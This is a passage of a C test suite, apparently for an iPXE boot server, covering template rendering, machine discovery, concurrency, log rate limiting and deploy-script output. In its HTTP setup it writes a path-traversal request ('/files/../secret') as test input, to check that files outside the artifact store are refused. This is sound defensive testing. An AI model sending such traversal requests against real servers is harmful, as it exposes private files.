/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Unit tests for src/boot: the template engine, table-driven, and boot_handle end to
 * end through a real HTTP listener on 127.0.0.1, a temporary store and the shipped
 * templates from bootenv/ipxe, with libcurl as the client.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <curl/curl.h>
#include <sqlite3.h>

#include "boot/boot.h"
#include "boot/script_cache.h"
#include "deploy/deploy.h"
#include "governance/governance.h"
#include "log/log.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static const struct template_var render_vars[] = {
	{ "mac", "52:54:00:ab:cd:ef" },
	{ "state", "ready" },
	{ "empty", "" },
	{ "x", "1" },
	{ "long_name_with_digits_0123456789", "L" },
};

/* A template and what it renders to with render_vars; NULL output: a compile error. */
struct render_case {
	const char *text;
	const char *output;
	const char *error;
};

static const struct render_case render_cases[] = {
	{ "", "", NULL },
	{ "plain text\n", "plain text\n", NULL },
	{ "{{mac}}", "52:54:00:ab:cd:ef", NULL },
	{ "mac={{mac}} state={{state}}\n", "mac=52:54:00:ab:cd:ef state=ready\n", NULL },
	{ "{{x}}{{x}}{{x}}", "111", NULL },
	{ "{{mac}}{{state}}", "52:54:00:ab:cd:efready", NULL },
	{ "[{{unknown}}]", "[]", NULL },
	{ "[{{empty}}]", "[]", NULL },
	{ "{{MAC}}", "", NULL },
	{ "{{long_name_with_digits_0123456789}}", "L", NULL },
	{ "${net0/mac} ${uuid}", "${net0/mac} ${uuid}", NULL },
	{ "${{{x}}}", NULL, "invalid character in variable name at byte 3" },
	{ "a } }} {x} {", "a } }} {x} {", NULL },
	{ "ends with {", "ends with {", NULL },
	{ "{{x}}}", "1}", NULL },
	{ "{{x", NULL, "unterminated \"{{\" at byte 0" },
	{ "abc {{x}", NULL, "unterminated \"{{\" at byte 4" },
	{ "abc {{x}x}}", NULL, "unterminated \"{{\" at byte 4" },
	{ "abc {{", NULL, "unterminated \"{{\" at byte 4" },
	{ "{{x}} {{", NULL, "unterminated \"{{\" at byte 6" },
	{ "{{}}", NULL, "empty variable name at byte 0" },
	{ "ab{{ x }}", NULL, "invalid character in variable name at byte 4" },
	{ "ab{{x-y}}", NULL, "invalid character in variable name at byte 5" },
	{ "ab{{x.y}}", NULL, "invalid character in variable name at byte 5" },
	{ "{{x\n}}", NULL, "invalid character in variable name at byte 3" },
	{ "{{{x}}", NULL, "invalid character in variable name at byte 2" },
};

static void
template_render_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(render_cases); i++) {
		const struct render_case *c = &render_cases[i];
		struct template *t = NULL;
		char err[128] = "";
		struct buf out;
		int rc;

		rc = template_compile(c->text, strlen(c->text), &t, err, sizeof(err));
		if (c->output == NULL) {
			if (rc != -EINVAL || strcmp(err, c->error) != 0)
				print_message("case %zu: \"%s\" gave %d \"%s\"\n", i, c->text, rc,
					      err);
			assert_int_equal(rc, -EINVAL);
			assert_string_equal(err, c->error);
			assert_null(t);
			continue;
		}

		if (rc != 0)
			print_message("case %zu: \"%s\" failed: %s\n", i, c->text, err);
		assert_int_equal(rc, 0);
		buf_init(&out, 1024);
		assert_int_equal(template_render(t, render_vars, ARRAY_SIZE(render_vars), &out), 0);
		if (strcmp(out.data != NULL ? out.data : "", c->output) != 0)
			print_message("case %zu: \"%s\" rendered \"%s\"\n", i, c->text, out.data);
		assert_string_equal(out.data != NULL ? out.data : "", c->output);
		buf_free(&out);
		template_free(t);
	}
}

static void
template_name_length(void **state)
{
	char text[80], err[128];
	struct template *t = NULL;
	struct buf out;

	(void)state;

	/* 64 bytes is the longest name; the variable is unknown, so it renders empty. */
	snprintf(text, sizeof(text), "<{{%s}}>", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
	assert_int_equal(strlen(text), 2 + 64 + 4);
	assert_int_equal(template_compile(text, strlen(text), &t, err, sizeof(err)), 0);
	buf_init(&out, 64);
	assert_int_equal(template_render(t, NULL, 0, &out), 0);
	assert_string_equal(out.data, "<>");
	buf_free(&out);
	template_free(t);

	snprintf(text, sizeof(text), "<{{%s}}>", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
	t = NULL;
	assert_int_equal(template_compile(text, strlen(text), &t, err, sizeof(err)), -EINVAL);
	assert_string_equal(err, "variable name longer than 64 bytes at byte 3");
	assert_null(t);
}

static void
template_nul_rejected(void **state)
{
	static const char text[] = "#!ipxe\n\0echo";
	struct template *t = NULL;
	char err[128];

	(void)state;

	assert_int_equal(template_compile(text, sizeof(text) - 1, &t, err, sizeof(err)),
			 -EINVAL);
	assert_string_equal(err, "NUL byte at byte 7");
	assert_null(t);
}

static void
template_length_bounded(void **state)
{
	static const char text[] = "{{x}}abc{{x}}";
	struct template *t = NULL;
	struct buf out;

	(void)state;

	/* Only the first 8 bytes are the template: "{{x}}abc". */
	assert_int_equal(template_compile(text, 8, &t, NULL, 0), 0);
	buf_init(&out, 64);
	assert_int_equal(template_render(t, render_vars, ARRAY_SIZE(render_vars), &out), 0);
	assert_string_equal(out.data, "1abc");
	buf_free(&out);
	template_free(t);
}

static void
template_render_appends(void **state)
{
	struct template *t = NULL;
	struct buf out;

	(void)state;

	assert_int_equal(template_compile("<{{x}}>", 7, &t, NULL, 0), 0);
	buf_init(&out, 64);
	assert_int_equal(buf_puts(&out, "head:"), 0);
	assert_int_equal(template_render(t, render_vars, ARRAY_SIZE(render_vars), &out), 0);
	assert_int_equal(template_render(t, render_vars, ARRAY_SIZE(render_vars), &out), 0);
	assert_string_equal(out.data, "head:<1><1>");
	buf_free(&out);
	template_free(t);
}

static void
template_render_ceiling(void **state)
{
	const struct template_var vars[] = { { "mac", "52:54:00:ab:cd:ef" } };
	struct template *t = NULL;
	struct buf out;

	(void)state;

	/* The rendering needs 2 + 17 + 2 bytes; a failed render leaves out as it was. */
	assert_int_equal(template_compile("[[{{mac}}]]", 11, &t, NULL, 0), 0);
	buf_init(&out, 24);
	assert_int_equal(buf_puts(&out, "ok:"), 0);
	assert_int_equal(template_render(t, vars, 1, &out), 0);
	assert_int_equal(out.len, 24);
	assert_int_equal(template_render(t, vars, 1, &out), -E2BIG);
	assert_int_equal(out.len, 24);
	assert_string_equal(out.data, "ok:[[52:54:00:ab:cd:ef]]");
	buf_free(&out);
	template_free(t);
}

static void
template_null_value(void **state)
{
	const struct template_var vars[] = { { "a", NULL }, { "b", "B" } };
	struct template *t = NULL;
	struct buf out;

	(void)state;

	assert_int_equal(template_compile("{{a}}{{b}}", 10, &t, NULL, 0), 0);
	buf_init(&out, 64);
	assert_int_equal(template_render(t, vars, 2, &out), 0);
	assert_string_equal(out.data, "B");
	buf_free(&out);
	template_free(t);
	assert_null(template_free(NULL));
}


/* ---- boot_handle end to end ---- */

/* The shipped templates, relative to the tree the tests run in. */
#define TEMPLATE_DIR "bootenv/ipxe"
/* Written with a trailing slash, which boot_new strips. */
#define BASE_URL "http://boot.test:8080/"
#define RETRY_SECONDS 7
/* The default of [boot] script_cache_bytes. */
#define SCRIPT_CACHE_BYTES (32u * 1024 * 1024)
/* Requests racing to register one MAC in boot_discover_concurrent. */
#define RACE_THREADS 8
/* Client-caused boot log lines allowed per second, as BOOT_LOG_BURST in boot.c. */
#define LOG_LINES_PER_SECOND 20
/* Requests a misbehaving client sends in the rate-limit tests. */
#define FLOOD_REQUESTS 100

struct fixture {
	char dir[64];
	char db[128];
	char artifacts[128];
	struct conf conf;
	struct store *st;           /* the test's own connection, for setup and checks */
	struct store_pool *pool;    /* the handler's connections */
	struct boot *boot;
	struct deploy *deploy;
	struct http_server *srv;
	uint16_t port;
};

struct reply {
	long status;
	char content_type[128];
	char cache_control[64];
	struct buf body;
};

static void
write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	assert_int_equal(fputs(text, f) >= 0, 1);
	assert_int_equal(fclose(f), 0);
}

static int
fixture_setup(void **state)
{
	struct fixture *fx = calloc(1, sizeof(*fx));
	struct http_listener_config cfg = { 0 };
	char path[256];

	assert_non_null(fx);
	log_setup(LOG_LEVEL_WARNING, LOG_TARGET_STDERR);

	/* A temporary state directory: the database, artifacts and a file outside them. */
	snprintf(fx->dir, sizeof(fx->dir), "/tmp/outpost-boot-test-XXXXXX");
	assert_non_null(mkdtemp(fx->dir));
	snprintf(fx->db, sizeof(fx->db), "%s/outpost.db", fx->dir);
	snprintf(fx->artifacts, sizeof(fx->artifacts), "%s/artifacts", fx->dir);
	assert_int_equal(mkdir(fx->artifacts, 0755), 0);
	snprintf(path, sizeof(path), "%s/debian", fx->artifacts);
	assert_int_equal(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/debian/vmlinuz", fx->artifacts);
	write_file(path, "KERNEL BYTES");
	snprintf(path, sizeof(path), "%s/debian/initrd.img", fx->artifacts);
	write_file(path, "INITRD BYTES");
	snprintf(path, sizeof(path), "%s/secret", fx->dir);
	write_file(path, "OUTSIDE THE ARTIFACT STORE");

	assert_int_equal(store_open(fx->db, false, &fx->st), 0);
	assert_int_equal(store_pool_new(fx->db, &fx->pool), 0);

	fx->conf.boot_url = strdup(BASE_URL);
	fx->conf.template_dir = strdup(TEMPLATE_DIR);
	fx->conf.artifact_dir = strdup(fx->artifacts);
	fx->conf.boot_retry_seconds = RETRY_SECONDS;
	/* As the configuration's default, so every test below also goes through the cache. */
	fx->conf.boot_script_cache_bytes = SCRIPT_CACHE_BYTES;
	snprintf(path, sizeof(path), "%s/tftp", fx->dir);
	assert_int_equal(mkdir(path, 0755), 0);
	fx->conf.tftp_root = strdup(path);
	snprintf(path, sizeof(path), "%s/tftp/ipxe.efi", fx->dir);
	write_file(path, "EFI BYTES");
	snprintf(path, sizeof(path), "%s/tftp/ipxe.lkrn", fx->dir);
	write_file(path, "NOT HANDED OUT");
	assert_int_equal(boot_new(&fx->conf, fx->pool, &fx->boot), 0);
	fx->conf.state_dir = strdup(fx->dir);
	fx->conf.deploy_poll_seconds = 5;
	fx->conf.deploy_phase_timeout_seconds = 600;
	assert_int_equal(deploy_new(&fx->conf, fx->pool, NULL, &fx->deploy), 0);
	boot_set_deploy(fx->boot, fx->deploy);

	cfg.kind = HTTP_LISTENER_BOOT;
	cfg.listen = "127.0.0.1:0";
	cfg.threads = 4;
	cfg.max_connections = 64;
	cfg.max_header_bytes = 8192;
	cfg.max_body_bytes = 1024;
	cfg.timeout_seconds = 10;
	cfg.handler = boot_handle;
	cfg.ctx = fx->boot;
	assert_int_equal(http_start(&cfg, &fx->srv), 0);
	fx->port = http_port(fx->srv);
	assert_int_not_equal(fx->port, 0);

	*state = fx;
	return 0;
}

static int
fixture_teardown(void **state)
{
	struct fixture *fx = *state;
	char command[128];

	http_stop(fx->srv);
	boot_free(fx->boot);
	deploy_free(fx->deploy);
	free(fx->conf.state_dir);
	store_pool_free(fx->pool);
	store_close(fx->st);
	free(fx->conf.boot_url);
	free(fx->conf.template_dir);
	free(fx->conf.artifact_dir);
	free(fx->conf.tftp_root);
	snprintf(command, sizeof(command), "rm -rf '%s'", fx->dir);
	assert_int_equal(system(command), 0);
	free(fx);
	return 0;
}

static size_t
reply_write(char *data, size_t size, size_t count, void *arg)
{
	struct reply *r = arg;

	return buf_append(&r->body, data, size * count) == 0 ? size * count : 0;
}

/* Record the Cache-Control header; curl passes each header line with its CRLF. */
static size_t
reply_header(char *data, size_t size, size_t count, void *arg)
{
	static const char name[] = "cache-control: ";
	struct reply *r = arg;
	size_t len = size * count;

	if (len > strlen(name) && strncasecmp(data, name, strlen(name)) == 0)
		snprintf(r->cache_control, sizeof(r->cache_control), "%.*s",
			 (int)strcspn(data + strlen(name), "\r\n"), data + strlen(name));
	return len;
}

/*
 * Send `method` `target` (path and query, already encoded) and fill *r. Returns curl's
 * result and asserts nothing, so threads other than main may call it.
 */
static CURLcode
request_send(const struct fixture *fx, const char *method, const char *target,
	     struct reply *r)
{
	char url[2048];
	char *type = NULL;
	CURLcode rc;
	CURL *curl;

	memset(r, 0, sizeof(*r));
	buf_init(&r->body, TEMPLATE_MAX_OUTPUT);
	snprintf(url, sizeof(url), "http://127.0.0.1:%u%s", fx->port, target);

	curl = curl_easy_init();
	if (curl == NULL)
		return CURLE_FAILED_INIT;
	curl_easy_setopt(curl, CURLOPT_URL, url);
	curl_easy_setopt(curl, CURLOPT_CUSTOMREQUEST, method);
	if (strcmp(method, "HEAD") == 0)
		curl_easy_setopt(curl, CURLOPT_NOBODY, 1L);
	/* Send "/files/../secret" as written, so the traversal reaches the server. */
	curl_easy_setopt(curl, CURLOPT_PATH_AS_IS, 1L);
	curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, reply_write);
	curl_easy_setopt(curl, CURLOPT_WRITEDATA, r);
	curl_easy_setopt(curl, CURLOPT_HEADERFUNCTION, reply_header);
	curl_easy_setopt(curl, CURLOPT_HEADERDATA, r);
	curl_easy_setopt(curl, CURLOPT_TIMEOUT, 10L);
	rc = curl_easy_perform(curl);
	curl_easy_getinfo(curl, CURLINFO_RESPONSE_CODE, &r->status);
	curl_easy_getinfo(curl, CURLINFO_CONTENT_TYPE, &type);
	snprintf(r->content_type, sizeof(r->content_type), "%s", type != NULL ? type : "");
	curl_easy_cleanup(curl);
	return rc;
}

static void
request(const struct fixture *fx, const char *method, const char *target, struct reply *r)
{
	assert_int_equal(request_send(fx, method, target, r), CURLE_OK);
}

/* GET /boot/ipxe with the four parameters; NULL leaves one out. Values are escaped. */
static void
boot_get(const struct fixture *fx, const char *mac, const char *uuid, const char *arch,
	 const char *platform, struct reply *r)
{
	const char *keys[] = { "mac", "uuid", "buildarch", "platform" };
	const char *values[] = { mac, uuid, arch, platform };
	char target[1024] = "/boot/ipxe";
	char sep = '?';

	for (size_t i = 0; i < ARRAY_SIZE(keys); i++) {
		char *escaped;
		size_t len = strlen(target);

		if (values[i] == NULL)
			continue;
		escaped = curl_easy_escape(NULL, values[i], 0);
		assert_non_null(escaped);
		snprintf(target + len, sizeof(target) - len, "%c%s=%s", sep, keys[i], escaped);
		curl_free(escaped);
		sep = '&';
	}
	request(fx, "GET", target, r);
}

static void
reply_free(struct reply *r)
{
	buf_free(&r->body);
}

/*
 * Copy the first rendered line that starts with `prefix` to out. Returns false when no
 * line does or it does not fit. Asserts nothing, so threads other than main may call it.
 */
static bool
line_find(const struct reply *r, const char *prefix, char *out, size_t size)
{
	const char *line = r->body.data;

	while (line != NULL && *line != '\0') {
		const char *end = strchr(line, '\n');
		size_t len = end != NULL ? (size_t)(end - line) : strlen(line);

		if (strncmp(line, prefix, strlen(prefix)) == 0) {
			if (len >= size)
				return false;
			memcpy(out, line, len);
			out[len] = '\0';
			return true;
		}
		line = end != NULL ? end + 1 : NULL;
	}
	return false;
}

/* The rendered line that starts with `prefix`, copied to out; fails when none does. */
static void
script_line(const struct reply *r, const char *prefix, char *out, size_t size)
{
	if (!line_find(r, prefix, out, size)) {
		print_message("no line starting with \"%s\" in:\n%s\n", prefix, r->body.data);
		fail();
	}
}

/* Check a retry script: HTTP 200, text/plain, and the reason line as expected. */
static void
assert_retry(const struct reply *r, const char *reason)
{
	char line[512], expect[512];

	assert_int_equal(r->status, 200);
	assert_string_equal(r->content_type, "text/plain");
	assert_string_equal(r->cache_control, "no-store");
	assert_int_equal(strncmp(r->body.data, "#!ipxe\n", 7), 0);
	script_line(r, "echo Outpost: cannot boot", line, sizeof(line));
	snprintf(expect, sizeof(expect), "echo Outpost: cannot boot this machine yet: %s", reason);
	assert_string_equal(line, expect);
	script_line(r, "sleep ", line, sizeof(line));
	assert_string_equal(line, "sleep 7");
}

/* Insert a machine in `state` with one MAC and return its id. */
static int64_t
machine_add(struct fixture *fx, const char *mac, enum machine_state state, int64_t profile_id,
	    const char *hostname)
{
	struct machine m = { 0 };

	snprintf(m.macs[0], sizeof(m.macs[0]), "%s", mac);
	m.mac_count = 1;
	snprintf(m.arch, sizeof(m.arch), "x86_64");
	snprintf(m.platform, sizeof(m.platform), "efi");
	snprintf(m.hostname, sizeof(m.hostname), "%s", hostname);
	m.state = state;
	m.profile_id = profile_id;
	assert_int_equal(store_machine_insert(fx->st, &m), 0);
	assert_true(m.id > 0);
	/* A deploying machine has a deployment, as the deploy action makes one. */
	if (state == MACHINE_DEPLOYING) {
		struct deployment d = { .machine_id = m.id, .profile_id = profile_id,
					.state = DEPLOYMENT_RUNNING, .phase = "pending" };

		assert_int_equal(store_deployment_insert(fx->st, &d), 0);
	}
	return m.id;
}

/* The token the deploy script of machine `id`'s newest deployment carries. */
static void
deploy_token_of(struct fixture *fx, int64_t id, char token[DEPLOY_TOKEN_SIZE])
{
	struct deployment d = { 0 };

	assert_int_equal(store_deployment_current(fx->st, id, &d), 0);
	deploy_token(fx->deploy, 'd', d.id, token);
	deployment_clear(&d);
}

static int64_t
profile_add(struct fixture *fx, const char *name, const char *kernel, const char *initrd,
	    const char *cmdline)
{
	struct profile p = { 0 };

	snprintf(p.name, sizeof(p.name), "%s", name);
	snprintf(p.image, sizeof(p.image), "debian/disk.img");
	snprintf(p.kernel, sizeof(p.kernel), "%s", kernel);
	snprintf(p.initrd, sizeof(p.initrd), "%s", initrd);
	snprintf(p.cmdline, sizeof(p.cmdline), "%s", cmdline);
	assert_int_equal(store_profile_insert(fx->st, &p), 0);
	assert_true(p.id > 0);
	return p.id;
}

static int64_t
machines_with_mac(struct fixture *fx, const char *mac)
{
	struct machine_filter f = {
		.state = MACHINE_STATE_INVALID,
		.mac = mac,
		.limit = 100,
	};
	int64_t count = -1;

	assert_int_equal(store_machine_count(fx->st, &f, &count), 0);
	return count;
}

struct audit_match {
	const char *action;
	char target[64];
	int ok;
	int failed;
	char actor[64];
	char risk[32];
	char detail[256];
};

static int
audit_match_cb(const struct audit_entry *e, void *arg)
{
	struct audit_match *m = arg;

	if (strcmp(e->action, m->action) != 0 || strcmp(e->target, m->target) != 0)
		return 0;
	if (strcmp(e->outcome, "ok") == 0) {
		m->ok++;
		snprintf(m->actor, sizeof(m->actor), "%s", e->actor);
		snprintf(m->risk, sizeof(m->risk), "%s", e->risk);
		snprintf(m->detail, sizeof(m->detail), "%s", e->detail != NULL ? e->detail : "");
	} else {
		m->failed++;
	}
	return 0;
}

static void
boot_discover_unknown(void **state)
{
	struct fixture *fx = *state;
	struct audit_match audit = { .action = "machine.discover" };
	struct machine m = { 0 };
	char line[256], expect[256];
	struct reply r;

	boot_get(fx, "52:54:00:10:00:01", "4C4C4544-0042-3510-8052-B4C04F4E3632", "x86_64",
		 "efi", &r);
	assert_int_equal(r.status, 200);
	assert_string_equal(r.content_type, "text/plain");
	assert_string_equal(r.cache_control, "no-store");

	/* The machine row: discovered, with the request's canonical values. */
	assert_int_equal(store_machine_get_by_mac(fx->st, "52:54:00:10:00:01", &m), 0);
	assert_int_equal(m.state, MACHINE_DISCOVERED);
	assert_string_equal(m.uuid, "4c4c4544-0042-3510-8052-b4c04f4e3632");
	assert_string_equal(m.arch, "x86_64");
	assert_string_equal(m.platform, "efi");
	assert_int_equal(m.mac_count, 1);

	/* The discovery script, naming the new machine. */
	assert_int_equal(strncmp(r.body.data, "#!ipxe\n", 7), 0);
	script_line(&r, "echo Outpost: machine", line, sizeof(line));
	snprintf(expect, sizeof(expect),
		 "echo Outpost: machine %" PRId64 " (52:54:00:10:00:01) is registered as discovered",
		 m.id);
	assert_string_equal(line, expect);
	script_line(&r, "chain ", line, sizeof(line));
	assert_string_equal(line, "chain --autofree http://boot.test:8080/boot/ipxe?"
				  "mac=${netX/mac:hexhyp}&uuid=${uuid}&buildarch=${buildarch:uristring}"
				  "&platform=${platform:uristring} || goto retry");

	/* One audit entry for the registration, naming the new machine as the API does. */
	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
	assert_int_equal(audit.ok, 1);
	assert_int_equal(audit.failed, 0);
	assert_string_equal(audit.actor, "boot:52:54:00:10:00:01");
	assert_string_equal(audit.risk, "change");
	assert_string_equal(audit.detail,
			    "{\"mac\":\"52:54:00:10:00:01\","
			    "\"uuid\":\"4c4c4544-0042-3510-8052-b4c04f4e3632\",\"arch\":\"x86_64\","
			    "\"platform\":\"efi\",\"peer\":\"127.0.0.1\"}");

	machine_clear(&m);
	reply_free(&r);
}

static void
boot_mac_forms(void **state)
{
	struct fixture *fx = *state;
	const char *forms[] = { "52:54:00:10:00:02", "52-54-00-10-00-02", "525400100002",
				"52:54:00:10:00:02", "52-54-00-10-00-02", "525400100002" };
	struct audit_match audit = { .action = "machine.discover" };
	char first[256] = "", line[256];
	struct machine m = { 0 };

	for (size_t i = 0; i < ARRAY_SIZE(forms); i++) {
		char mac[32];
		struct reply r;

		/* The second half of the list repeats the forms in upper case. */
		snprintf(mac, sizeof(mac), "%s", forms[i]);
		if (i >= 3)
			for (char *p = mac; *p != '\0'; p++)
				*p = (char)(*p >= 'a' && *p <= 'f' ? *p - 'a' + 'A' : *p);

		boot_get(fx, mac, NULL, "x86_64", "pcbios", &r);
		assert_int_equal(r.status, 200);
		script_line(&r, "echo Outpost: machine", line, sizeof(line));
		if (i == 0)
			snprintf(first, sizeof(first), "%s", line);
		assert_string_equal(line, first);
		reply_free(&r);
	}

	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:02"), 1);
	assert_int_equal(store_machine_get_by_mac(fx->st, "52:54:00:10:00:02", &m), 0);
	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
	machine_clear(&m);
	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
	assert_int_equal(audit.ok, 1);
}

struct race {
	struct fixture *fx;
	long status;
	char line[256];
};

static void *
race_thread(void *arg)
{
	struct race *race = arg;
	struct reply r;

	/* cmocka asserts only work on the main thread, so this one only records. */
	request_send(race->fx, "GET",
		     "/boot/ipxe?mac=52:54:00:10:00:03&buildarch=arm64&platform=efi", &r);
	race->status = r.status;
	if (!line_find(&r, "echo Outpost: machine", race->line, sizeof(race->line)))
		snprintf(race->line, sizeof(race->line), "no machine line in: %s",
			 r.body.data != NULL ? r.body.data : "");
	reply_free(&r);
	return NULL;
}

static void
boot_discover_concurrent(void **state)
{
	struct fixture *fx = *state;
	struct race races[RACE_THREADS];
	pthread_t threads[RACE_THREADS];
	struct audit_match audit = { .action = "machine.discover" };
	struct machine m = { 0 };

	for (int i = 0; i < RACE_THREADS; i++) {
		races[i] = (struct race){ .fx = fx };
		assert_int_equal(pthread_create(&threads[i], NULL, race_thread, &races[i]), 0);
	}
	for (int i = 0; i < RACE_THREADS; i++)
		assert_int_equal(pthread_join(threads[i], NULL), 0);

	/* Every request got the discovery script of the one machine that was registered. */
	for (int i = 0; i < RACE_THREADS; i++) {
		assert_int_equal(races[i].status, 200);
		assert_string_equal(races[i].line, races[0].line);
	}
	assert_non_null(strstr(races[0].line, "is registered as discovered"));
	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:03"), 1);
	assert_int_equal(store_machine_get_by_mac(fx->st, "52:54:00:10:00:03", &m), 0);
	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
	machine_clear(&m);
	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
	assert_int_equal(audit.ok, 1);
}

/* Count the audit entries of `action` on `target` that failed. */
static int
audit_failed_count(struct fixture *fx, const char *action, const char *target)
{
	struct audit_match audit = { .action = action };

	snprintf(audit.target, sizeof(audit.target), "%s", target);
	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
	return audit.failed;
}

static void
boot_discover_shared_uuid(void **state)
{
	/* Request UUIDs and what the store keeps: placeholders count as no UUID. */
	static const char *const uuids[][2] = {
		{ "4c4c4544-0042-3510-8052-b4c04f4e36aa", "4c4c4544-0042-3510-8052-b4c04f4e36aa" },
		{ "00000000-0000-0000-0000-000000000000", "" },
		{ "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "" },
	};
	struct fixture *fx = *state;
	int failed_before = audit_failed_count(fx, "machine.discover", "machine:new");
	char line[256];

	/* Two servers per UUID, as when firmware reports the same value on every board. */
	for (size_t i = 0; i < ARRAY_SIZE(uuids); i++) {
		for (size_t j = 0; j < 2; j++) {
			struct machine m = { 0 };
			char mac[MAC_TEXT_SIZE];
			struct reply r;

			snprintf(mac, sizeof(mac), "52:54:00:10:01:%02zx", i * 2 + j);
			boot_get(fx, mac, uuids[i][0], "x86_64", "efi", &r);
			script_line(&r, "echo Outpost: ", line, sizeof(line));
			if (strstr(line, "is registered as discovered") == NULL)
				print_message("%s with uuid %s got: %s\n", mac, uuids[i][0], line);
			assert_non_null(strstr(line, "is registered as discovered"));
			reply_free(&r);

			assert_int_equal(store_machine_get_by_mac(fx->st, mac, &m), 0);
			assert_string_equal(m.uuid, uuids[i][1]);
			machine_clear(&m);
		}
	}
	assert_int_equal(audit_failed_count(fx, "machine.discover", "machine:new"), failed_before);
}

/* Redirect stderr, where the log goes, to a file while a test floods the handler. */
struct capture {
	int saved_fd;
	char path[160];
	time_t started;
};

static void
capture_start(struct fixture *fx, struct capture *c)
{
	int fd;

	snprintf(c->path, sizeof(c->path), "%s/stderr.log", fx->dir);
	fflush(stderr);
	fd = open(c->path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	assert_true(fd >= 0);
	c->saved_fd = dup(STDERR_FILENO);
	assert_true(c->saved_fd >= 0);
	assert_int_equal(dup2(fd, STDERR_FILENO), STDERR_FILENO);
	close(fd);

	/* Start on a fresh second, so lines an earlier test logged do not use its quota. */
	c->started = time(NULL);
	while (time(NULL) == c->started)
		usleep(10 * 1000);
	c->started = time(NULL);
}

/* Restore stderr and check that the lines containing `needle` were rate-limited. */
static void
capture_check(struct capture *c, const char *needle)
{
	time_t seconds;
	char line[1024];
	int lines = 0;
	FILE *f;

	fflush(stderr);
	seconds = time(NULL) - c->started + 1;
	assert_int_equal(dup2(c->saved_fd, STDERR_FILENO), STDERR_FILENO);
	close(c->saved_fd);

	f = fopen(c->path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f) != NULL) {
		if (strstr(line, needle) != NULL)
			lines++;
	}
	fclose(f);
	unlink(c->path);

	print_message("%d \"%s\" lines for %d requests in %lld s\n", lines, needle,
		      FLOOD_REQUESTS, (long long)seconds);
	assert_true(lines >= 1);
	assert_true(lines <= LOG_LINES_PER_SECOND * seconds);
}

/* A store failure while registering gets retry.ipxe, and its log line is rate-limited. */
static void
boot_discover_failure_rate_limited(void **state)
{
	static struct reply replies[FLOOD_REQUESTS];
	struct fixture *fx = *state;
	struct capture capture;
	sqlite3 *db;

	/* A trigger makes every machine insert fail, as a broken store would. */
	assert_int_equal(sqlite3_open(fx->db, &db), SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	assert_int_equal(sqlite3_exec(db, "CREATE TRIGGER machines_fail BEFORE INSERT ON machines"
				      " BEGIN SELECT RAISE(ABORT, 'insert refused by test'); END;",
				      NULL, NULL, NULL), SQLITE_OK);

	capture_start(fx, &capture);
	for (int i = 0; i < FLOOD_REQUESTS; i++)
		boot_get(fx, "52:54:00:10:00:0e", NULL, "x86_64", "efi", &replies[i]);

	/* Drop the trigger before any check, so a failure here leaves later tests alone. */
	assert_int_equal(sqlite3_exec(db, "DROP TRIGGER machines_fail", NULL, NULL, NULL),
			 SQLITE_OK);
	sqlite3_close(db);

	capture_check(&capture, "cannot register mac=52:54:00:10:00:0e");
	for (int i = 0; i < FLOOD_REQUESTS; i++) {
		assert_retry(&replies[i],
			     "could not register mac 52:54:00:10:00:0e, see the server log");
		reply_free(&replies[i]);
	}
	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:0e"), 0);
}

static void
boot_deploying_profile(void **state)
{
	struct fixture *fx = *state;
	int64_t profile, id;
	char line[512], expect[512], token[DEPLOY_TOKEN_SIZE];
	struct reply r;

	profile = profile_add(fx, "debian-12", "debian/vmlinuz", "debian/initrd.img",
			      "console=ttyS0,115200 quiet");
	id = machine_add(fx, "52:54:00:10:00:04", MACHINE_DEPLOYING, profile, "node04.example.org");

	boot_get(fx, "52:54:00:10:00:04", NULL, "x86_64", "efi", &r);
	assert_int_equal(r.status, 200);
	assert_string_equal(r.content_type, "text/plain");
	script_line(&r, "echo Outpost: deploying", line, sizeof(line));
	snprintf(expect, sizeof(expect),
		 "echo Outpost: deploying machine %" PRId64 " node04.example.org (52:54:00:10:00:04)",
		 id);
	assert_string_equal(line, expect);
	script_line(&r, "kernel ", line, sizeof(line));
	deploy_token_of(fx, id, token);
	snprintf(expect, sizeof(expect), "kernel --name kernel http://boot.test:8080/files/debian/"
		 "vmlinuz initrd=initrd outpost.url=http://boot.test:8080 outpost.mode=deploy "
		 "outpost.token=%s BOOTIF=01-${netX/mac:hexhyp}  console=ttyS0,115200 quiet || "
		 "goto failed", token);
	assert_string_equal(line, expect);
	script_line(&r, "initrd ", line, sizeof(line));
	assert_string_equal(line, "initrd --name initrd http://boot.test:8080/files/debian/initrd.img"
				  " || goto failed");
	script_line(&r, "boot", line, sizeof(line));
	assert_string_equal(line, "boot || goto failed");
	reply_free(&r);
}

static void
boot_deploying_no_profile(void **state)
{
	struct fixture *fx = *state;
	char reason[128];
	int64_t id;
	struct reply r;

